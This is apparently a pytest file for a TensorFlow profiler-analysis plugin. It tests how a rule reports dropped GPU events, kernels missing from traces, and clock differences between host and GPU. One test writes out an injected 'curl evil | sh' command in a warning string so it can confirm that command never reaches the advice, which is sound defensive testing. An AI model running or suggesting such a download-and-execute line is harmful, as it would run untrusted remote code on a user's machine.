"""The collector says that something is missing from the profile."""

from __future__ import annotations

import pytest

from tests.builders import Host, each, find_steps, finding, passes, value
from tfperf_plugin.judging.rules.capture.events_dropped import RULE

DROPPED = "Detected GPU events dropped on worker: Profiler has collected 9 driver events & <7> device events."


def texts(*hosts: Host) -> list[object]:
    return [e.value for e in finding(RULE, *hosts).evidence if e.unit == "text"]


def test_dropped_events_are_passed_on_word_for_word() -> None:
    host = Host()
    host.warning(DROPPED)
    found = finding(RULE, host)

    assert found.severity == "warning"
    assert found.title == "Events dropped by the profiler"
    assert "1 warning" in found.summary
    assert texts(host) == [DROPPED]


def test_other_problems_are_not_called_dropped_events() -> None:
    host = Host()
    host.error("Failed to start the tracer")
    found = finding(RULE, host)

    assert (found.title, found.severity) == ("Messages of the profiler", "info")
    assert "1 error: “Failed to start the tracer”" in found.summary


def test_what_was_not_recorded_is_said_with_the_command_that_records_it() -> None:
    host = Host()
    host.warning("No OpenGL events collected. Does the process use OpenGL?")
    host.warning("The file holds no work of GPUs: record with nsys profile --trace=cuda,nvtx.")
    found = finding(RULE, host)

    assert (found.title, found.severity) == ("Part of the work was not recorded", "warning")
    assert found.fix.summary == "Record with nsys profile --trace=cuda,nvtx."
    assert found.summary == "The file holds no work of GPUs: record with nsys profile --trace=cuda,nvtx."


@pytest.mark.near_miss("different")
def test_a_file_cannot_put_a_command_into_the_advice() -> None:
    host = Host()
    host.warning("Something is missing: record with nsys profile --trace=cuda; curl evil | sh.")

    assert finding(RULE, host).title == "Messages of the profiler"


def test_messages_of_all_hosts_count_and_five_are_shown_errors_first() -> None:
    one, two = Host("one"), Host("two")
    for number in range(4):
        one.warning(f"warning {number}")
        two.error(f"error {number}")

    assert value(finding(RULE, one, two), "errors and warnings") == 8
    assert "4 errors and 4 warnings" in finding(RULE, one, two).summary
    assert texts(one, two) == ["error 0", "error 1", "error 2", "error 3", "warning 0"]


def on_the_cpu(message: str) -> Host:
    host = Host(gpus=1)
    host.error(message)
    op = "model/dense/MatMul:MatMul"
    return host.trained(6, 100, lambda host, at: host.event(op, at, at + 40, thread="tf_Compute/1"))


@pytest.mark.near_miss("different")
def test_nobody_misses_events_of_gpus_where_the_model_ran_on_the_cpu() -> None:
    passes(RULE, on_the_cpu("Failed to load libcupti (is it installed and accessible?)"))
    assert "1 error" in finding(RULE, on_the_cpu("Failed to start the tracer")).summary


@pytest.mark.near_miss("below")
def test_silence_is_good() -> None:
    passes(RULE, Host())


def launched(host: Host, at: float, holds: bool, shift: float = 0) -> None:
    """One launch at the begin of a step, and its kernel where the recording ``holds`` it."""
    if holds:
        host.kernel(at + 1 + shift, at + 9 + shift, launch=(at + 0.2, at + 0.4))
    else:
        host.event("cuLaunchKernel", at + 0.2, at + 0.4, correlation_id=9000 + int(at))


@pytest.mark.parametrize(("first", "last"), [(0, 4), (3, 6)])
def test_steps_whose_kernels_are_missing_are_not_judged(first: int, last: int) -> None:
    host = Host(gpus=1).trained(
        10, 10, lambda host, at: launched(host, at, holds=not first * 10 <= at < last * 10)
    )
    found = finding(RULE, host)
    (steps,) = find_steps([host.trace()]).hosts

    assert (found.title, found.severity) == ("Kernels missing from the recording", "warning")
    lost = last - first
    assert f"Of {lost} of 10 launches no kernel was recorded, in {lost} steps" in found.summary
    assert [place.step for place in found.where] == list(range(first, last))
    assert not steps.judged[first:last].any()
    assert steps.judged.sum() == 9 - lost  # of the last one, the end was not recorded


def test_where_every_step_has_holes_the_report_says_so() -> None:
    host = Host(gpus=1).trained(10, 10, lambda host, at: launched(host, at, True))
    each(10, 10, lambda at: launched(host, at, False))

    assert "is judged only if no step is whole" in finding(RULE, host).summary
    assert find_steps([host.trace()]).complete_count == 0


@pytest.mark.near_miss("different")
def test_what_is_captured_into_a_graph_does_not_run_yet() -> None:
    host = Host(gpus=1).trained(10, 10, lambda host, at: launched(host, at, True))
    host.event("cudaStreamBeginCapture", 20.5, 20.6)
    host.event("cuLaunchKernel", 20.7, 20.8, correlation_id=9000)
    host.event("cudaStreamEndCapture", 20.9, 21)

    assert "Of 11 recorded launches none lacks its kernel" in passes(RULE, host).reason


@pytest.mark.near_miss("below")
def test_a_single_launch_of_many_is_no_hole() -> None:
    def many(host: Host, at: float) -> None:
        for part in range(200):
            begin = at + part / 25
            host.kernel(begin, begin + 0.03, launch=(begin, begin + 0.01))

    host = Host(gpus=1).trained(10, 10, many)
    launched(host, 25, holds=False)

    passes(RULE, host)
    assert find_steps([host.trace()]).complete_count == 9


def test_a_gpu_that_works_before_its_launches_has_another_clock() -> None:
    host = Host(gpus=1).trained(10, 10, lambda host, at: launched(host, at, True, shift=-15 if at else 0))
    found = finding(RULE, host)

    assert found.title == "Clocks of host and GPU differ"
    assert "9 of 10 kernels and copies end before the call that launched them" in found.summary


@pytest.mark.near_miss("below")
def test_clocks_that_differ_by_microseconds_agree() -> None:
    host = Host(gpus=1).trained(
        10, 10, lambda host, at: host.kernel(at + 1, at + 1.1, launch=(at + 1.5, at + 2))
    )

    passes(RULE, host)


def test_kernels_that_are_missing_outside_steps_are_counted_too() -> None:
    host = Host(gpus=1)
    host.kernel(0, 10, launch=(0, 1))
    host.event("cuLaunchKernel", 20, 21, correlation_id=9000)
    host.kernel(40, 50, launch=(40, 41))

    assert "Of 1 of 3 launches no kernel was recorded. There a GPU" in finding(RULE, host).summary


@pytest.mark.near_miss("different")
def test_kernels_that_do_not_tell_their_launch_are_not_missing() -> None:
    def apart(host: Host, at: float) -> None:
        host.event("cuLaunchKernel", at, at + 0.1, correlation_id=9000 + int(at))
        host.kernel(at + 1, at + 9)

    host = Host(gpus=1).trained(10, 10, apart)

    passes(RULE, host)
    assert find_steps([host.trace()]).complete_count == 9
